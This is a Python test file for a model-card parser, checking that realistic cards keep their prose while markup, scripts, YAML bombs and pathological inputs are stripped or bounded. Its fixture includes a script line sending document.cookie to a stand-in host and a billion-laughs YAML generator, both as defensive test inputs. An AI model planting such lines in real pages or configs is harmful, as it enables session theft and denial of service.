"""Card parsing: realistic cards keep their prose, hostile ones cost bounded time and never raise."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hfhub.cards import REJECTION_REASONS, CardRejected, ParsedCard, parse_card
from hfhub.cards.language import guess_language
from hfhub.cards.markup import clean_inline, drop_code_fences, drop_html_blocks
from hfhub.cards.parse import MAX_FRONT_MATTER_KEYS, MAX_HEADINGS, clip, split_front_matter
from hfhub.fakehub import card as fake_card
from hfhub.fakehub.corpus import Corpus

REALISTIC = """\
---
license: apache-2.0
language:
- en
base_model: meta-llama/Llama-3.1-8B
tags: [text-generation, sft]
model-index:
- name: Quill-8B
  results: []
---
<!-- Provide a quick summary of what the model is/does. -->
<p align="center"><img src="https://example.com/logo.png" width="200"/></p>
<h1 align="center">Quill-8B</h1>

[![License](https://img.shields.io/badge/license-apache--2.0-blue)](LICENSE) \
[![Open In Colab](https://colab.research.google.com/assets/colab-badge.svg)](https://colab.example/x)

**Quill-8B** is a *fine-tuned* version of [Llama 3.1](https://huggingface.co/meta-llama/Llama-3.1-8B)
for writing `poetry` &amp; prose. Read more at https://example.com/quill.

<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<style>body { display: none }</style>

## Evaluation

| Benchmark | Score | Notes |
|-----------|:-----:|------:|
| PoemBench | 71.2 | [details](https://example.com) |
| ProseEval | 64.0 | |
| HiddenRow | 1.0 | far down the table |

```python
from transformers import AutoModelForCausalLM
model = AutoModelForCausalLM.from_pretrained("acme/Quill-8B")  # <script>
```

Limitations
-----------

- It rhymes too often.
- It forgets the *meter*.

> [!WARNING]
> Not for medical advice.

[ref]: https://example.com/ref
"""

JAPANESE = """\
---
language: ja
license: mit
---
# 桜モデル

このモデルは日本語のテキスト分類のために、BERTをファインチューニングしたものです。
ニュース記事をカテゴリに分類します。

## 使い方

```python
pipe("今日は晴れです")
```
"""


def parsed(raw: bytes | str, **kwargs: int) -> ParsedCard:
    result = parse_card(raw.encode() if isinstance(raw, str) else raw, **kwargs)
    assert isinstance(result, ParsedCard), result
    return result


def test_realistic_card_keeps_the_prose_and_drops_the_markup() -> None:
    card = parsed(REALISTIC)
    assert card.summary.split("\n")[:2] == [
        "Quill-8B",
        "Quill-8B is a fine-tuned version of Llama 3.1 for writing poetry & prose. Read more at .",
    ]
    assert card.headings == ("Quill-8B", "Evaluation", "Limitations")
    assert card.front_matter_keys == ("license", "language", "base_model", "tags", "model-index")
    assert card.language == "en"
    assert card.card_bytes == len(REALISTIC.encode())
    assert not card.truncated and not card.had_invalid_utf8
    assert "Benchmark, Score, Notes; PoemBench, 71.2, details; ProseEval, 64.0" in card.summary
    assert "It rhymes too often.\nIt forgets the meter." in card.summary
    assert "Not for medical advice." in card.summary
    for gone in ("HiddenRow", "<", "http", "shields", "License", "Colab", "cookie", "display", "AutoModel",
                 "apache-2.0", "Provide a quick", "**", "`", "[", "|---", "WARNING", "&amp;"):
        assert gone not in card.summary, gone


def test_japanese_card() -> None:
    card = parsed(JAPANESE)
    assert card.language == "ja"
    assert card.headings == ("桜モデル", "使い方")
    assert "ニュース記事をカテゴリに分類します。" in card.summary
    assert "pipe" not in card.summary
    assert card.front_matter_keys == ("language", "license")


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("这个模型用于中文文本分类，基于大量新闻语料训练而成。" * 2, "zh"),
        ("이 모델은 한국어 문장 분류를 위해 학습되었습니다. 뉴스 기사를 분류합니다.", "ko"),
        ("Эта модель классифицирует тексты новостей на русском языке.", "ru"),
        ("هذا النموذج يصنف النصوص العربية إلى فئات مختلفة بدقة عالية", "ar"),
        ("This model is a version of BERT that was trained on the news of the day and is fast.", "en"),
        ("Dieses Modell ist eine Version von BERT, die auf den Nachrichten und mit der Zeit trainiert ist.",
         "de"),
        ("Ce modèle est une version de BERT qui est entraînée sur les nouvelles et pour la vitesse.", "fr"),
        ("Este modelo es una versión de BERT que fue entrenada con las noticias para la velocidad.", "es"),
        ("BERT-base GPT-2 T5 LoRA QLoRA", None),  # too few letters
        ("12345 67890 ---- ==== ++++", None),
        ("", None),
    ],
)
def test_language_guess(text: str, language: str | None) -> None:
    assert guess_language(text) == language


def test_card_with_only_front_matter() -> None:
    card = parsed("---\nlicense: mit\ntags:\n- a\n---\n")
    assert card.summary == "" and card.headings == () and card.language is None
    assert card.front_matter_keys == ("license", "tags")


def test_unclosed_front_matter_is_body_unless_truncated_inside_it() -> None:
    assert split_front_matter("---\nlicense: mit\nhello\n") == ((), "---\nlicense: mit\nhello\n")
    assert split_front_matter("---\nlicense: mit\nhello", truncated=True) == (("license",), "")
    assert split_front_matter("\n\n---\na: 1\n---\nbody") == (("a",), "body")
    assert split_front_matter("text\n---\na: 1\n---\n") == ((), "text\n---\na: 1\n---\n")


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b" \n\t\r\n ", "empty"),
        (b"# Title\x00\x00more", "binary"),
        (bytes(range(1, 32)) * 10 + b"some text", "binary"),
        (b"\xfa\x80\x81\xff\xfe" * 100 + b"hello", "binary"),
        (bytes(range(256)) * 40, "binary"),
    ],
    ids=["nothing", "whitespace", "nul", "controls", "invalid-utf8", "all-bytes"],
)
def test_rejections(raw: bytes, reason: str) -> None:
    assert parse_card(raw) == CardRejected(reason, len(raw))
    assert reason in REJECTION_REASONS


def test_invalid_utf8_is_replaced_and_flagged() -> None:
    card = parsed(b"# Caf\xe9\n\nA model for caf\xe9 menus that is trained on the text of the menus.")
    assert card.had_invalid_utf8
    assert card.headings == ("Caf\ufffd",)


def test_boms_and_line_endings() -> None:
    assert parsed("\ufeff# Title\r\n\r\nBody text.".encode()).summary == "Title\nBody text."
    utf16 = parsed("# Titel\n\nEin Text über das Modell.".encode("utf-16"))
    assert utf16.summary == "Titel\nEin Text über das Modell." and not utf16.had_invalid_utf8


def test_large_card_is_truncated_at_max_bytes() -> None:
    raw = ("# Big\n\n" + "é" * 600_000).encode()  # a 2-byte character cut in half at max_bytes
    card = parsed(raw, max_bytes=1001, summary_chars=100)
    assert card.truncated and card.card_bytes == len(raw)
    assert not card.had_invalid_utf8  # the character cut by truncation is not counted
    assert card.summary == "Big\n" + "é" * 96


def test_yaml_bomb_is_skipped_not_parsed() -> None:
    bomb = "---\na: &a [\"lol\",\"lol\"]\n" + "".join(
        f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)},*{chr(97 + n)},*{chr(97 + n)}]\n" for n in range(20)
    )
    card = parsed(bomb + "---\n# Real card\n\nText after the bomb.")
    assert card.summary == "Real card\nText after the bomb."
    assert card.front_matter_keys[:3] == ("a", "b", "c")
    many_keys = "---\n" + "".join(f"k{n}: v\n" for n in range(1000)) + "---\nbody"
    assert len(parsed(many_keys).front_matter_keys) == MAX_FRONT_MATTER_KEYS


@pytest.mark.parametrize("closing", ["</script>", "</SCRIPT >", ""])
def test_script_and_style_content_is_dropped(closing: str) -> None:
    card = parsed(f"Before.\n<SCRIPT type='x'>\nalert('<b>pwned</b>')\n{closing}\nAfter.")
    assert card.summary == ("Before.\nAfter." if closing else "Before.")


def test_summary_and_headings_are_bounded() -> None:
    raw = "".join(f"## Heading {n}\n\n{'word ' * 100}\n\n" for n in range(500)).encode()
    card = parsed(raw, summary_chars=1000)
    assert len(card.summary) <= 1000 and len(card.headings) == MAX_HEADINGS
    assert parsed(raw, summary_chars=0).summary == ""


@pytest.mark.parametrize(
    ("text", "limit", "clipped"),
    [
        ("short", 10, "short"),
        ("two words", 3, "two"),
        ("two words here", 12, "two words"),
        ("two words", 4, "two"),
        ("a" * 50, 10, "a" * 10),  # no boundary: a hard cut
        ("桜" * 50, 10, "桜" * 10),
        ("ab " + "c" * 50, 20, "ab " + "c" * 17),  # the only space too early: a hard cut
    ],
)
def test_clip(text: str, limit: int, clipped: str) -> None:
    assert clip(text, limit) == clipped


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("![logo](logo.png) and [a **link**](https://x.org \"title\")", "logo and a link"),
        ("[![CI](https://github.com/a/b/badge.svg)](https://ci)", ""),
        ("see [the paper][1] &mdash; ok", "see the paper — ok"),
        ("&lt;script&gt;alert(1)", "script>alert(1)"),
        ("<<script", "script"),
        ("a < b and c > d, x << y", "a < b and c > d, x < y"),
        ("zero\u200bwidth and \u202eflipped", "zerowidth and flipped"),
    ],
)
def test_clean_inline(text: str, plain: str) -> None:
    assert clean_inline(text) == plain


def test_fences_and_html_blocks() -> None:
    assert drop_code_fences("a\n````md\n```\nstill code\n````\nb\n~~~\nopen to the end") == "a\nb"
    assert drop_html_blocks("a<!-- x -->b<!--c") == "ab"
    assert drop_html_blocks("a<style>x</style>b<scriptless>c") == "ab<scriptless>c"


@pytest.mark.parametrize(
    "raw",
    [
        b"[" * 200_000,
        b"<" * 200_000,
        b"<a" * 200_000,
        b"![" * 200_000,
        b"[](" * 200_000,
        b"[a](" + b"x" * 500_000,
        b">" * 500_000,
        b"|" * 500_000,
        b"|a" * 300_000,
        b"<!--" * 200_000,
        b"<script" * 100_000,
        b"```\n" * 200_000,
        b"---\n" * 200_000,
        b"&" * 500_000,
        b"#" * 500_000,
        b"- a\n" * 200_000,
        b"http://" * 100_000,
        b"<" * 200_000 + b"script>",
        b"word " * 2_000_000,  # several MB: read only up to max_bytes
    ],
    ids=lambda raw: f"{raw[:8]!r}x{len(raw)}",
)
def test_pathological_input_completes(raw: bytes) -> None:
    result = parse_card(raw)
    if isinstance(result, ParsedCard):
        assert len(result.summary) <= 2000 and "<script" not in result.summary.lower()


def _check(result: ParsedCard | CardRejected, summary_chars: int = 2000) -> None:
    if isinstance(result, CardRejected):
        assert result.reason in REJECTION_REASONS
        return
    assert isinstance(result, ParsedCard)
    assert len(result.summary) <= summary_chars
    assert "<script" not in result.summary.lower()
    assert len(result.headings) <= MAX_HEADINGS
    assert all(len(h) <= 200 for h in result.headings)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(raw=st.binary(max_size=4000), max_bytes=st.integers(1, 5000), summary_chars=st.integers(0, 300))
def test_arbitrary_bytes_never_raise(raw: bytes, max_bytes: int, summary_chars: int) -> None:
    _check(parse_card(raw, max_bytes=max_bytes, summary_chars=summary_chars), summary_chars)


MARKUP = st.sampled_from(
    ["<script>", "</script>", "<script", "<style>", "<!--", "-->", "<", ">", "<b>", "</p>", "&lt;", "&amp;",
     "[", "]", "(", ")", "![", "](", "http://x", "```", "~~~", "---", "|", "#", "## ", "*", "`", "- ",
     "> ", "\n", "\n\n", " ", "a", "word", "桜", "\x00", "\ufffd", "\u202e", "script", "s", ":"]
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(MARKUP, max_size=80), summary_chars=st.integers(0, 300))
def test_markup_soup_never_raises_and_never_keeps_a_script_tag(parts: list[str], summary_chars: int) -> None:
    _check(parse_card("".join(parts).encode(), summary_chars=summary_chars), summary_chars)


@pytest.mark.parametrize("index", range(0, 40, 3))
def test_fake_hub_card(index: int) -> None:
    record = Corpus(40, seed=5).record(index)
    markdown = fake_card.render(record)
    name = record["id"].split("/", 1)[1]
    lines = markdown.split("\n")
    description = lines[lines.index(f"# {name}") + 2]
    card = parsed(markdown)
    assert card.summary.startswith(f"{name}\n{description}\n")
    assert card.headings[:3] == (name, "Usage", "Training data") and "Citation" in card.headings
    assert len(markdown.encode()) > 1000  # real cards are kilobytes
    assert card.front_matter_keys == tuple(record.get("cardData") or {})
    assert "pip install" not in card.summary and "model_id" not in card.summary
    assert card.language == "en"
